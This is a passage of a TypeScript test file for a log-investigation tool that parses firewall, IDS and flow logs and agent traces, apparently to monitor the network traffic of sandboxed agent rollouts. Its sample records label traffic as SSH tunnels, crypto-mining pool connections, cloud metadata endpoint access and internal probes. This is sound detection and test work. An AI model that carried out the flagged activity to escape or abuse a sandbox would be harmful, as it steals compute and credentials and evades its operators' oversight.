// Why: proves the input side of `corral investigate`: every network-log and trace format parses
// its fixture into the right records; bad records are counted with file:line while the rest is
// kept; timestamp units and zones are detected or stated (never silently assumed); field maps,
// placements, OTLP (one big document or JSON lines) and the streaming line splitter work.
// Last part: the fleet simulator is deterministic, and its ground truth matches what the
// readers find in the files it wrote (every planted alert at its file:line, in its window).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, readFileSync, readdirSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { Writable } from 'node:stream';
import { tmpdir } from 'node:os';
import { gzipSync } from 'node:zlib';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { NetRecord, ToolCallSpan } from '../src/investigate/types.js';
import {
  detectNetFormat, detectTraceFormat, netReader, traceReader, readPlacements, readPlacementsDetailed, parseFieldMap,
  deriveCategory, isPrivateIp, TsParser, checkTz, forEachLine, splitLineRanges, NET_FORMATS, type ReadStats,
} from '../src/investigate/inputs/index.js';
import { LineSplitter } from '../src/util/line-splitter.js';
import { investigate } from '../src/investigate/investigate.js';
import { generateFleet, fleetGenerateCommand, parseGenerateArgs, type FleetOptions, type GroundTruth } from '../src/investigate/generate/index.js';

const FIX = fileURLToPath(new URL('../../test/fixtures/investigate/', import.meta.url));
const fx = (f: string): string => join(FIX, f);

async function readNet(file: string, opts: Record<string, unknown> = {}): Promise<{ recs: NetRecord[]; st: ReadStats }> {
  const path = file.startsWith('/') ? file : fx(file);
  const recs: NetRecord[] = [];
  const st = await netReader(await detectNetFormat(path)).read(path, (r) => recs.push(r), opts);
  return { recs, st };
}

async function readTrace(file: string, opts: Record<string, unknown> = {}): Promise<{ spans: ToolCallSpan[]; st: ReadStats }> {
  const path = file.startsWith('/') ? file : fx(file);
  const spans: ToolCallSpan[] = [];
  const st = await traceReader(await detectTraceFormat(path)).read(path, (s) => spans.push(s), opts);
  return { spans, st };
}

const iso = (ms: number): string => new Date(ms).toISOString();
const issueLines = (st: ReadStats): number[] => st.issues.map((i) => i.line);

function tmp(t: { after(fn: () => void): void }): string {
  const d = mkdtempSync(join(tmpdir(), 'corral-inv-in-'));
  t.after(() => rmSync(d, { recursive: true, force: true }));
  return d;
}

test('format detection reads a first line longer than its 4 KB window whole (an OpenAI episode, an eve alert with its payload, a long command), gzipped too', async (t) => {
  const d = tmp(t);
  const ts = (s: number): string => new Date(Date.UTC(2024, 4, 1, 12, 0, s)).toISOString();
  const messages = [{ role: 'user', content: 'fix the tests', timestamp: ts(0) }];
  for (let i = 0; i < 40; i++) {
    messages.push({ role: 'assistant', content: 'running', timestamp: ts(2 * i + 1), tool_calls: [{ id: `c${i}`, type: 'function', function: { name: 'bash', arguments: JSON.stringify({ command: `pytest -k case_${i}` }) } }] } as never);
    messages.push({ role: 'tool', tool_call_id: `c${i}`, content: 'ok '.repeat(40), timestamp: ts(2 * i + 2) } as never);
  }
  const episode = JSON.stringify({ episode: 'ep-long', ip: '10.20.0.9', messages });
  assert.ok(episode.length > 8000);
  const cases: [string, string, string, 'net' | 'trace'][] = [
    ['openai-long.jsonl', `${episode}\n${episode.replace('ep-long', 'ep-2')}\n`, 'openai-messages', 'trace'],
    // Longer than the 1 MiB it reads on: told by its keys.
    ['openai-huge.jsonl', `${JSON.stringify({ episode: 'ep-huge', messages: [...messages, { role: 'tool', content: 'x'.repeat(1_200_000), timestamp: ts(99) }] })}\n`, 'openai-messages', 'trace'],
    ['canonical-long.jsonl', `${JSON.stringify({ episode: 'e1', step: 1, command: `python -c "${'print(1);'.repeat(700)}"`, ts: ts(0), end_ts: ts(5), ip: '10.20.0.9' })}\n`, 'canonical-jsonl', 'trace'],
    ['eve-long.json', `${JSON.stringify({ timestamp: ts(0), event_type: 'alert', src_ip: '10.20.0.9', src_port: 1, dest_ip: '198.51.100.7', dest_port: 443, proto: 'TCP', alert: { signature: 'x', severity: 2 }, payload: 'A'.repeat(9000) })}\n`, 'suricata-eve', 'net'],
  ];
  for (const [name, text, want, kind] of cases) {
    writeFileSync(join(d, name), text);
    writeFileSync(join(d, `${name}.gz`), gzipSync(text));
    for (const f of [name, `${name}.gz`]) assert.equal(await (kind === 'net' ? detectNetFormat : detectTraceFormat)(join(d, f)), want, f);
  }
  // …and the long episodes are then read: 40 tool calls each.
  const { spans } = await readTrace(join(d, 'openai-long.jsonl'));
  assert.equal(spans.length, 80);
});

test('format detection names every fixture, and an unknown file becomes one reported bad record', async (t) => {
  const net: Record<string, string> = {
    'eve.json': 'suricata-eve', 'conn.log': 'zeek-conn-tsv', 'conn.json': 'zeek-conn-json', 'iptables.log': 'iptables-log',
    'vpc-default.log': 'vpc-flow', 'vpc-noheader.log': 'vpc-flow', 'vpc-custom.log': 'vpc-flow', 'firewall.csv': 'csv', 'cisco-asa.log': 'cisco-asa',
    'firewall.jsonl': 'jsonl', 'corral-events.jsonl': 'corral-events',
  };
  for (const [f, want] of Object.entries(net)) assert.equal(await detectNetFormat(fx(f)), want, f);
  const traces: Record<string, string> = { 'traces.jsonl': 'canonical-jsonl', 'otlp.json': 'otlp-json', 'otlp-lines.jsonl': 'otlp-json', 'openai.jsonl': 'openai-messages' };
  for (const [f, want] of Object.entries(traces)) assert.equal(await detectTraceFormat(fx(f)), want, f);
  const d = tmp(t);
  writeFileSync(join(d, 'mystery.bin'), 'hello world\nthis is not a log\n');
  assert.equal(await detectNetFormat(join(d, 'mystery.bin')), 'unknown');
  assert.equal(await detectTraceFormat(join(d, 'mystery.bin')), 'unknown');
  const { recs, st } = await readNet(join(d, 'mystery.bin'));
  assert.equal(recs.length, 0);
  assert.equal(st.bad, 1);
  assert.match(st.issues[0]!.error, /unknown network log format.*--format/);
  // Binary data (a pcap, an archive, random bytes with commas) is never guessed as CSV, and says why.
  const bin = Buffer.alloc(3000);
  for (let i = 0; i < bin.length; i++) bin[i] = (i * 7919 + 13) % 256 || 44;
  writeFileSync(join(d, 'capture.pcap'), Buffer.concat([Buffer.from([0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0]), bin]));
  writeFileSync(join(d, 'noise.log'), Buffer.from(bin.map((b) => (b === 0 || b === 10 ? 44 : b))));
  for (const f of ['capture.pcap', 'noise.log']) {
    assert.equal(await detectNetFormat(join(d, f)), 'unknown', f);
    const r = await readNet(join(d, f));
    assert.match(r.st.issues[0]!.error, /looks like binary data, not a text log.*--format/, f);
  }
  // A reader quoting a huge garbage field keeps the issue short.
  writeFileSync(join(d, 'wide.csv'), `${Array.from({ length: 400 }, (_, i) => `column_${i}_${'x'.repeat(30)}`).join(',')}\n1,2,3\n`);
  const wide = await readNet(join(d, 'wide.csv'));
  assert.ok(wide.st.issues[0]!.error.length <= 400 && /no column for ts, src, dst \(columns: column_0_x+…, .*, … \(400 columns\)\); pass --map ts=COLUMN,src=COLUMN,dst=COLUMN$/.test(wide.st.issues[0]!.error), wide.st.issues[0]!.error);
  writeFileSync(join(d, 'long.log'), `#separator \\x09\n#fields\tts\tid.orig_h\tid.resp_h\n${'9'.repeat(3000)}x\t10.0.0.1\t10.0.0.2\n`);
  const long = await netReader('zeek-conn-tsv').read(join(d, 'long.log'), () => {});
  assert.match(long.issues[0]!.error, /^unparseable ts "9{280,}… \(3018 characters\)$/, 'an issue quoting a huge field is cut, with its length');
  assert.throws(() => netReader('pcap'), /unknown network log format "pcap".*suricata-eve/);
  assert.throws(() => traceReader('langsmith'), /unknown trace format/);
  assert.equal(NET_FORMATS.length, 10);
});

test('suricata eve: alerts and flows kept, other event types skipped and counted, bad lines reported with line numbers', async () => {
  const { recs, st } = await readNet('eve.json');
  assert.equal(st.records, 4);
  assert.deepEqual(issueLines(st), [4, 6, 9]);
  assert.match(st.issues[0]!.error, /invalid JSON/);
  assert.match(st.issues[1]!.error, /src_ip/);
  assert.match(st.issues[2]!.error, /^truncated last line/);
  assert.deepEqual(st.skippedKinds, { dns: 1, stats: 1 });
  const [ssh, miner, flow, meta] = recs as [NetRecord, NetRecord, NetRecord, NetRecord];
  assert.equal(ssh.kind, 'alert');
  assert.equal(iso(ssh.ts), '2024-05-01T12:00:00.123Z');
  assert.ok(Math.abs(ssh.ts - (Date.UTC(2024, 4, 1, 12, 0, 0, 123) + 0.456)) < 1e-6, 'microseconds kept as a fraction of a ms');
  assert.equal(ssh.category, 'tunnel');
  assert.equal(ssh.severity, 3);
  assert.equal(ssh.action, 'allowed');
  assert.equal(ssh.host, 'ids-1');
  assert.equal(ssh.line, 1);
  // to_client alert: orientation restored from flow.* so the sandbox is the source.
  assert.deepEqual([miner.src, miner.dst, miner.sport, miner.dport], ['10.20.1.6', '203.0.113.20', 41000, 3333]);
  assert.equal(miner.category, 'mining');
  assert.equal(miner.severity, 1);
  assert.equal(miner.bytes, 1200);
  assert.equal(flow.kind, 'flow');
  assert.equal(iso(flow.ts), '2024-05-01T12:07:00.100Z', 'flow events are stamped at flow.start');
  assert.equal(flow.bytes, 35200);
  assert.equal(flow.category, undefined);
  assert.equal(meta.category, 'metadata_access', 'derived from the destination when the signature says nothing');
});

test('zeek conn.log TSV: header-driven columns, unset fields, other #path sections skipped, bad row reported', async () => {
  const { recs, st } = await readNet('conn.log');
  assert.equal(st.records, 3);
  assert.deepEqual(issueLines(st), [10]);
  assert.match(st.issues[0]!.error, /expected 21 fields, found 10/);
  assert.deepEqual(st.skippedKinds, { 'zeek-dns': 1 });
  assert.match(st.tsNote ?? '', /epoch seconds/);
  assert.deepEqual(recs.map((r) => [r.src, r.dst, r.dport, r.proto, r.bytes, r.line]), [
    ['10.20.1.5', '203.0.113.10', 22, 'tcp', 7000, 9],
    ['10.20.1.6', '203.0.113.20', 3333, 'tcp', undefined, 11],
    ['10.20.1.5', '10.30.0.9', 8080, 'tcp', 0, 12],
  ]);
  assert.equal(iso(recs[0]!.ts), '2024-05-01T12:00:00.123Z');
  assert.deepEqual(recs.map((r) => r.category), ['tunnel', 'mining', undefined], 'a plain flow to a private address is not a probe');
});

test('zeek JSON: float seconds and ISO timestamps, non-conn records skipped, unparseable ts reported', async () => {
  const { recs, st } = await readNet('conn.json');
  assert.equal(st.records, 2);
  assert.deepEqual(issueLines(st), [4]);
  assert.match(st.issues[0]!.error, /yesterday/);
  assert.deepEqual(st.skippedKinds, { 'zeek-dns': 1 });
  assert.equal(iso(recs[1]!.ts), '2024-05-01T12:01:40.000Z');
  assert.equal(recs[0]!.bytes, 7000);
});

test('iptables/nftables kernel lines: prefix becomes the rule, syslog year stated, uptime-only lines reported', async () => {
  const { recs, st } = await readNet('iptables.log', { year: 2024 });
  assert.equal(st.records, 4);
  assert.deepEqual(issueLines(st), [5, 7]);
  assert.match(st.issues[0]!.error, /no wall-clock time/);
  assert.equal(st.skippedKinds['non-firewall line'], 1);
  assert.match(st.tsNote ?? '', /no year and no timezone: year 2024 given as an option; zone assumed UTC/);
  const [drop, icmp, accept, meta] = recs as [NetRecord, NetRecord, NetRecord, NetRecord];
  assert.deepEqual([iso(drop.ts), drop.kind, drop.rule, drop.action, drop.host, drop.dport, drop.category], ['2024-05-01T12:00:00.000Z', 'alert', 'FW-DROP-INTERNAL', 'blocked', 'host-1', 8080, 'internal_probe']);
  // The ICMP error quotes the offending packet in [...]: its SPT/DPT must not leak into the outer record.
  assert.deepEqual([icmp.proto, icmp.dst, icmp.sport, icmp.dport, icmp.rule], ['icmp', '10.30.0.10', undefined, undefined, 'corral-drop sbx-1']);
  assert.deepEqual([accept.kind, accept.action], ['flow', 'allowed']);
  assert.equal(iso(meta.ts), '2024-05-01T10:00:04.250Z', 'an RFC 3339 prefix with +02:00 is converted to UTC');
  assert.equal(meta.category, 'metadata_access');
});

test('iptables: without a year option the year comes from the file mtime (stated), with the Dec→Jan rollover', async (t) => {
  const d = tmp(t);
  const p = join(d, 'kern.log');
  copyFileSync(fx('iptables.log'), p);
  utimesSync(p, new Date('2025-01-03T00:00:00Z'), new Date('2025-01-03T00:00:00Z'));
  const { recs, st } = await readNet(p);
  assert.equal(iso(recs[0]!.ts), '2024-05-01T12:00:00.000Z', 'May lines in a file last written in January 2025 are from 2024');
  assert.match(st.tsNote ?? '', /modification time \(2025-01-03\)/);
  const berlin = await readNet(p, { tz: 'Europe/Berlin' });
  assert.equal(iso(berlin.recs[0]!.ts), '2024-05-01T10:00:00.000Z', 'CEST is UTC+2 in May');
  assert.match(berlin.st.tsNote ?? '', /zone assumed Europe\/Berlin/);
});

test('iptables: dmesg -T lines ([Www Mmm dd HH:MM:SS YYYY], no host) read with their time, zone assumed and stated; malformed brackets stay uptime-only', async (t) => {
  const d = tmp(t);
  const p = join(d, 'dmesg.log');
  writeFileSync(p, [
    '[Wed May  1 12:00:03 2024] corral-drop: IN=veth0 OUT=eth0 SRC=10.20.0.9 DST=198.51.100.7 LEN=60 PROTO=TCP SPT=40000 DPT=3333',
    '[Sat Jun 15 09:30:00 2024] FW-DROP IN=eth0 OUT= SRC=10.20.0.9 DST=10.30.0.5 LEN=60 PROTO=TCP SPT=40001 DPT=5432',
    '[Wed Foo  1 12:00:03 2024] corral-drop: IN=veth0 OUT=eth0 SRC=10.20.0.9 DST=198.51.100.7 PROTO=TCP DPT=1',
    '[ 1234.567890] corral-drop: IN=veth0 OUT=eth0 SRC=10.20.0.9 DST=198.51.100.7 PROTO=TCP DPT=2',
  ].join('\n') + '\n');
  const { recs, st } = await readNet(p);
  assert.deepEqual(recs.map((r) => [iso(r.ts), r.host, r.rule, r.dport, r.category]), [
    ['2024-05-01T12:00:03.000Z', undefined, 'corral-drop:', 3333, 'mining'],
    ['2024-06-15T09:30:00.000Z', undefined, 'FW-DROP', 5432, 'internal_probe'],
  ]);
  assert.deepEqual(issueLines(st), [3, 4]);
  assert.match(st.issues[1]!.error, /uptime only .*journalctl -k -o short-iso \(or dmesg -T\)/);
  assert.match(st.tsNote ?? '', /2 dmesg -T timestamps have no timezone: zone assumed UTC/);
  const berlin = await readNet(p, { tz: 'Europe/Berlin' });
  assert.equal(iso(berlin.recs[0]!.ts), '2024-05-01T10:00:03.000Z', 'CEST is UTC+2 in May');
});

test('VPC flow logs: default v2 with and without header, custom ${field} lists, NODATA skipped, wrong width reported', async () => {
  const def = await readNet('vpc-default.log');
  assert.equal(def.st.records, 3);
  assert.deepEqual(issueLines(def.st), [5]);
  assert.deepEqual(def.st.skippedKinds, { NODATA: 1 });
  assert.deepEqual(def.recs.map((r) => [r.src, r.dst, r.dport, r.proto, r.action, r.bytes, r.host]), [
    ['10.20.1.5', '203.0.113.10', 22, 'tcp', 'allowed', 4000, 'eni-0a1b2c3d'],
    ['10.20.1.6', '203.0.113.20', 3333, 'tcp', 'blocked', 2000, 'eni-0a1b2c3d'],
    ['10.20.1.7', '169.254.169.254', 80, 'tcp', 'allowed', 500, 'eni-0a1b2c3d'],
  ]);
  assert.equal(iso(def.recs[0]!.ts), '2024-05-01T12:00:00.000Z');
  const noHeader = await readNet('vpc-noheader.log');
  assert.equal(noHeader.st.records, 2);
  assert.match(noHeader.st.tsNote ?? '', /default v2 field list assumed/);
  const custom = await readNet('vpc-custom.log');
  assert.deepEqual(custom.recs.map((r) => [r.src, r.dport, r.proto, r.host, r.sport]), [['10.20.1.5', 22, 'tcp', 'i-0123', undefined], ['10.20.1.6', 3333, 'udp', 'i-0123', undefined]]);
});

test('generic CSV: columns guessed and stated, --map overrides, quoted delimiters, bad rows reported', async (t) => {
  const auto = await readNet('firewall.csv');
  assert.equal(auto.st.records, 3);
  assert.deepEqual(issueLines(auto.st), [5, 6]);
  assert.match(auto.st.issues[1]!.error, /unterminated quoted field/);
  assert.match(auto.st.tsNote ?? '', /columns guessed: ts=EventTime,src=SourceIP,dst=DestIP/);
  assert.match(auto.st.tsNote ?? '', /3 timestamps had no timezone: assumed UTC/);
  const [a, b, c] = auto.recs as [NetRecord, NetRecord, NetRecord];
  assert.deepEqual([a.kind, a.rule, a.severity, a.category, a.host], ['alert', 'SSH; outbound tunnel', 2, 'tunnel', 'fw-a']);
  assert.deepEqual([b.rule, b.severity, b.action, b.category], ['Stratum "mining" pool', 1, 'blocked', 'mining']);
  assert.equal(c.kind, 'flow', 'no rule, severity or category → flow');
  // An explicit map wins over guesses; a map naming a missing column is reported; a file without ts/src/dst says how to fix it.
  const mapped = await readNet('firewall.csv', { map: parseFieldMap('ts=EventTime, src=DestIP, dst=SourceIP, rule=Sensor') });
  assert.deepEqual([mapped.recs[0]!.src, mapped.recs[0]!.rule], ['203.0.113.10', 'fw-a']);
  const d = tmp(t);
  writeFileSync(join(d, 'x.csv'), 'when,who,what\n1,2,3\n');
  const none = await netReader('csv').read(join(d, 'x.csv'), () => assert.fail('no records expected'));
  assert.equal(none.records, 0);
  assert.match(none.issues[0]!.error, /no column for ts, src, dst .*pass --map ts=COLUMN,src=COLUMN,dst=COLUMN/);
  const wrong = await netReader('csv').read(fx('firewall.csv'), () => {}, { map: { ts: 'Nope' } });
  assert.match(wrong.issues[0]!.error, /--map ts=Nope: no such column/);
});

test('generic JSONL: nested paths guessed (GCP-style), epoch ms detected, missing src/dst reported', async () => {
  const { recs, st } = await readNet('firewall.jsonl');
  assert.equal(st.records, 2);
  assert.deepEqual(issueLines(st), [3]);
  assert.match(st.tsNote ?? '', /epoch milliseconds detected/);
  assert.match(st.tsNote ?? '', /src=jsonPayload\.connection\.src_ip/);
  assert.deepEqual(recs.map((r) => [r.src, r.dst, r.dport, r.proto, r.action]), [['10.20.1.5', '203.0.113.10', 22, 'tcp', 'allowed'], ['10.20.1.7', '169.254.169.254', 80, 'tcp', 'blocked']]);
  assert.equal(iso(recs[1]!.ts), '2024-05-01T12:05:00.000Z');
});

test('JSON exports that nest and capitalise their fields (Azure Firewall: properties.SourceIp, …) are guessed without a --map, and stated', async (t) => {
  const d = tmp(t);
  const p = join(d, 'azure.json');
  const row = (s: number, props: Record<string, unknown>): string => JSON.stringify({ time: `2024-05-01T12:00:0${s}.0000000Z`, resourceId: '/SUBSCRIPTIONS/X/AZUREFIREWALLS/FW', operationName: 'AZFWNetworkRule', properties: props });
  writeFileSync(p, [
    row(3, { Protocol: 'TCP', SourceIp: '10.20.0.9', SourcePort: 40000, DestinationIp: '198.51.100.7', DestinationPort: 443, Action: 'Allow', Policy: 'fw-policy', Rule: 'allow-web' }),
    row(4, { Protocol: 'TCP', SourceIp: '10.20.0.9', SourcePort: 40001, DestinationIp: '198.51.100.9', DestinationPort: 3333, Action: 'Deny', Policy: 'fw-policy', Rule: 'deny-all' }),
  ].join('\n') + '\n');
  const { recs, st } = await readNet(p);
  assert.match(st.tsNote ?? '', /columns guessed: ts=time,src=properties\.SourceIp,dst=properties\.DestinationIp,sport=properties\.SourcePort,dport=properties\.DestinationPort,proto=properties\.Protocol,action=properties\.Action,rule=properties\.Rule/);
  assert.deepEqual(recs.map((r) => [iso(r.ts), r.src, r.dst, r.dport, r.proto, r.action, r.kind, r.category ?? null]), [
    ['2024-05-01T12:00:03.000Z', '10.20.0.9', '198.51.100.7', 443, 'tcp', 'allowed', 'flow', null],
    ['2024-05-01T12:00:04.000Z', '10.20.0.9', '198.51.100.9', 3333, 'tcp', 'blocked', 'alert', 'mining'],
  ]);
});

test('Cilium Hubble flows (hubble observe -o json: verdicts, nested IP and l4) are guessed without a --map', async (t) => {
  const d = tmp(t);
  const p = join(d, 'hubble.json');
  const flow = (ts: string, verdict: string, dst: string, port: number): string => JSON.stringify({ flow: { time: ts, verdict, IP: { source: '10.20.0.9', destination: dst, ipVersion: 'IPv4' }, l4: { TCP: { source_port: 40000, destination_port: port } }, source: { namespace: 'rl', pod_name: 'rollout-7' }, node_name: 'node-3', traffic_direction: 'EGRESS' }, node_name: 'node-3', time: ts });
  writeFileSync(p, [flow('2024-05-01T12:00:03Z', 'FORWARDED', '198.51.100.7', 443), flow('2024-05-01T12:00:04.123456789Z', 'DROPPED', '198.51.100.9', 3333)].join('\n') + '\n');
  const { recs, st } = await readNet(p);
  assert.match(st.tsNote ?? '', /src=flow\.IP\.source,dst=flow\.IP\.destination,sport=flow\.l4\.TCP\.source_port,dport=flow\.l4\.TCP\.destination_port,action=flow\.verdict,host=node_name/);
  assert.deepEqual(recs.map((r) => [r.dst, r.dport, r.action, r.kind, r.category ?? null, r.host]), [
    ['198.51.100.7', 443, 'allowed', 'flow', null, 'node-3'],
    ['198.51.100.9', 3333, 'blocked', 'flow', 'mining', 'node-3'],
  ]);
});

test('AWS Network Firewall alert and flow logs (eve events in an envelope; netflow events) read as Suricata eve', async (t) => {
  const d = tmp(t);
  const p = join(d, 'nfw.log');
  const env = (ts: number, event: Record<string, unknown>): string => JSON.stringify({ firewall_name: 'corral-fw', availability_zone: 'us-east-1a', event_timestamp: String(ts), event });
  writeFileSync(p, [
    env(1714564803, { timestamp: '2024-05-01T12:00:03.123456+0000', flow_id: 1, event_type: 'alert', src_ip: '10.20.0.9', src_port: 40000, dest_ip: '198.51.100.9', dest_port: 3333, proto: 'TCP', alert: { action: 'blocked', signature_id: 5, rev: 1, signature: 'ET POLICY Stratum mining.subscribe', category: 'Crypto Currency Mining Activity Detected', severity: 1 } }),
    env(1714564804, { timestamp: '2024-05-01T12:00:04.000000+0000', flow_id: 2, event_type: 'netflow', src_ip: '10.20.0.9', src_port: 40001, dest_ip: '198.51.100.7', dest_port: 443, proto: 'TCP', netflow: { pkts: 10, bytes: 4000, start: '2024-05-01T12:00:04.000000+0000', end: '2024-05-01T12:00:05.000000+0000', age: 1 } }),
    env(1714564805, { timestamp: '2024-05-01T12:00:05.000000+0000', event_type: 'tls', src_ip: '10.20.0.9', dest_ip: '198.51.100.7' }),
  ].join('\n') + '\n');
  assert.equal(await detectNetFormat(p), 'suricata-eve');
  const { recs, st } = await readNet(p);
  assert.deepEqual(recs.map((r) => [iso(r.ts), r.kind, r.dst, r.dport, r.action ?? null, r.category ?? null, r.rule ?? null, r.host]), [
    ['2024-05-01T12:00:03.123Z', 'alert', '198.51.100.9', 3333, 'blocked', 'mining', 'ET POLICY Stratum mining.subscribe', 'corral-fw'],
    ['2024-05-01T12:00:04.000Z', 'flow', '198.51.100.7', 443, null, null, null, 'corral-fw'],
  ]);
  assert.equal(st.bad, 0);
  assert.deepEqual(st.skippedKinds, { tls: 1 });
});

test('key=value firewall logs (FortiGate traffic, IPS and event lines, behind a syslog prefix) are detected and read without a --map', async (t) => {
  const d = tmp(t);
  const p = join(d, 'fortigate.log');
  writeFileSync(p, [
    'date=2024-05-01 time=12:00:03 devname="FGT-EDGE" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=10.20.0.9 srcport=40000 dstip=198.51.100.7 dstport=443 policyid=1 policyname="allow-out" proto=6 action="close" sentbyte=4242',
    'date=2024-05-01 time=12:00:04 devname="FGT-EDGE" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=10.20.0.9 srcport=40001 dstip=198.51.100.9 dstport=3333 policyid=0 policyname="implicit deny" proto=6 action="deny" sentbyte=0',
    '<189>date=2024-05-01 time=12:00:04 eventtime=1714564804500000000 tz="+0000" devname="FGT-EDGE" type="utm" subtype="ips" level="alert" srcip=10.20.0.9 dstip=198.51.100.9 dstport=443 proto=6 action="dropped" attack="Stratum.Mining.Protocol" msg="a \\"quoted\\" word" severity="high"',
    'date=2024-05-01 time=12:00:05 tz="-0700" devname="FGT-EDGE" type="traffic" subtype="forward" level="notice" srcip=10.20.0.10 dstip=198.51.100.8 dstport=80 policyname="allow-out" proto=6 action="accept"',
    'date=2024-05-01 time=12:00:06 devname="FGT-EDGE" type="event" subtype="system" level="information" logdesc="Admin login successful" user="admin"',
    '<189>date=2024-05-01 time=12:00:07 devname="FGT-EDGE" type="traffic" subtype="forward" level="warning" srcip=10.20.0.9 dstip=10.30.0.5 dstport=22 policyname="deny-internal" proto=6 action="deny"',
  ].join('\n') + '\n');
  assert.equal(await detectNetFormat(p), 'kv');
  const { recs, st } = await readNet(p);
  assert.deepEqual(recs.map((r) => [iso(r.ts), r.dst, r.dport, r.proto, r.action, r.kind, r.rule, r.category ?? null, r.host]), [
    ['2024-05-01T12:00:03.000Z', '198.51.100.7', 443, 'tcp', 'allowed', 'flow', 'allow-out', null, 'FGT-EDGE'], // a closed allowed session: a flow
    ['2024-05-01T12:00:04.000Z', '198.51.100.9', 3333, 'tcp', 'blocked', 'alert', 'implicit deny', 'mining', 'FGT-EDGE'],
    ['2024-05-01T12:00:04.500Z', '198.51.100.9', 443, 'tcp', 'blocked', 'alert', 'Stratum.Mining.Protocol', 'mining', 'FGT-EDGE'], // IPS line: its own fields (attack), eventtime
    ['2024-05-01T19:00:05.000Z', '198.51.100.8', 80, 'tcp', 'allowed', 'flow', 'allow-out', null, 'FGT-EDGE'], // tz -0700
    ['2024-05-01T12:00:07.000Z', '10.30.0.5', 22, 'tcp', 'blocked', 'alert', 'deny-internal', 'internal_probe', 'FGT-EDGE'], // a <PRI> before date=
  ]);
  assert.match(st.tsNote ?? '', /from line 3 \(keys date, time, eventtime, .*\): columns guessed: .*rule=attack/, 'the IPS lines\' own guesses are stated too');
  assert.deepEqual(issueLines(st), [5], 'an event line without addresses is a bad record');
  assert.match(st.tsNote ?? '', /columns guessed: ts=time,src=srcip,dst=dstip/);
  const { parseKv } = await import('../src/investigate/inputs/kv.js');
  assert.deepEqual(parseKv('a=1 b="x \\"y\\" z" c= d=4'), { a: '1', b: 'x "y" z', c: '', d: '4' });
  assert.match(String(parseKv('just words here')), /not a key=value line/);
});

test('Cisco ASA / FTD syslog: denies are alerts with their ACL, permits and built connections flows (real, not NAT-mapped, ends), other ids skipped by id', async () => {
  const { recs, st } = await readNet('cisco-asa.log', { year: 2024 });
  const row = (r: NetRecord): string => `${iso(r.ts)} ${r.kind} ${r.src}:${r.sport ?? ''}>${r.dst}:${r.dport ?? ''} ${r.proto} ${r.rule} s${r.severity} ${r.host ?? '-'}`;
  assert.deepEqual(recs.map(row), [
    '2024-05-01T12:00:00.000Z alert 10.20.1.5:40000>203.0.113.10:22 tcp 106023 INSIDE_OUT s3 fw-1',
    '2024-05-01T12:00:01.000Z flow 10.20.2.5:41000>198.51.100.7:443 tcp 302013 s4 fw-1',
    '2024-05-01T12:00:03.000Z alert 10.20.1.6:41001>203.0.113.20:3333 tcp 106100 INSIDE_OUT s3 -',
    '2024-05-01T12:00:04.000Z flow 10.20.1.7:5353>198.51.100.53:53 udp 106100 INSIDE_OUT s4 fw-2',
    '2024-05-01T12:00:05.000Z alert 10.20.3.5:40002>169.254.169.254:80 tcp 106001 inbound denied s1 fw-3',
    '2024-05-01T12:00:06.000Z alert 10.20.1.8:5000>10.30.0.9:161 udp 106006 inbound denied s1 fw-1',
    '2024-05-01T12:00:07.000Z alert 10.20.1.9:40003>10.30.0.10:8080 tcp 106015 no connection s4 fw-1',
    '2024-05-01T12:00:08.000Z alert 10.20.1.10:>10.30.0.11: icmp 106014 s2 fw-1',
    '2024-05-01T12:00:09.000Z alert 10.20.1.11:40004>10.20.0.1:22 tcp 710003 to-the-box ACL s2 fw-1',
    '2024-05-01T12:00:10.000Z alert 2001:db8::5:40005>2001:db8::10:443 tcp 106023 INSIDE_OUT s3 fw-1',
    '2024-05-01T12:00:11.000Z flow 203.0.113.30:500>10.20.4.4:500 udp 302015 s4 fw-1',
  ]);
  assert.deepEqual(recs.map((r) => r.category ?? '-'), ['tunnel', '-', 'mining', '-', 'metadata_access', 'internal_probe', 'internal_probe', 'internal_probe', 'internal_probe', '-', '-']);
  assert.deepEqual((st as unknown as { skippedKinds: Record<string, number> }).skippedKinds, { 'ASA 302014': 1, 'ASA 111008': 1 });
  assert.deepEqual(issueLines(st), [14]);
  assert.match(st.issues[0]!.error, /106023 message not in its documented form/);
  assert.match(st.tsNote ?? '', /no timezone: assumed UTC/, 'the ASA\'s own zone-less timestamps are stated');
});

test('a Palo Alto traffic export (headers with spaces, YYYY/MM/DD times) is read without a --map: columns guessed and stated', async (t) => {
  const d = tmp(t);
  const p = join(d, 'pan.csv');
  writeFileSync(p, [
    'Receive Time,Serial #,Type,Threat/Content Type,Generated Time,Source address,Destination address,Rule,Application,Source Port,Destination Port,IP Protocol,Action,Bytes',
    '2024/05/01 12:00:03,0123,TRAFFIC,end,2024/05/01 12:00:03,10.20.0.9,198.51.100.7,allow-web,ssl,40000,443,tcp,allow,4242',
    '2024/05/01 12:00:04,0123,TRAFFIC,deny,2024/05/01 12:00:04,10.20.0.9,198.51.100.9,deny-all,unknown-tcp,40001,3333,tcp,deny,0',
  ].join('\n') + '\n');
  const { recs, st } = await readNet(p);
  assert.equal(await detectNetFormat(p), 'csv');
  assert.match(st.tsNote ?? '', /columns guessed: ts=Receive Time,src=Source address,dst=Destination address,sport=Source Port,dport=Destination Port,proto=IP Protocol,action=Action,rule=Rule,bytes=Bytes/);
  assert.deepEqual(recs.map((r) => [iso(r.ts), r.src, r.dst, r.dport, r.proto, r.action, r.kind, r.bytes]), [
    ['2024-05-01T12:00:03.000Z', '10.20.0.9', '198.51.100.7', 443, 'tcp', 'allowed', 'flow', 4242],
    ['2024-05-01T12:00:04.000Z', '10.20.0.9', '198.51.100.9', 3333, 'tcp', 'blocked', 'alert', 0],
  ]);
});

test('a cloud firewall allow log through --map (every record names its rule) is flows, not alerts; threats on allowed traffic and denials stay alerts', async (t) => {
  const d = tmp(t);
  const row = (o: Record<string, unknown>): string => JSON.stringify({ timestamp: '2024-05-01T12:00:00Z', severity: 'INFO', ...o });
  const conn = (dst: string, port: number): Record<string, unknown> => ({ connection: { src_ip: '10.20.1.5', dest_ip: dst, dest_port: port, protocol: 6 } });
  writeFileSync(join(d, 'gcp.jsonl'), [
    row({ jsonPayload: { ...conn('198.51.100.7', 443), disposition: 'ALLOWED', rule_details: { reference: 'network:default/firewall:allow-egress' } } }),
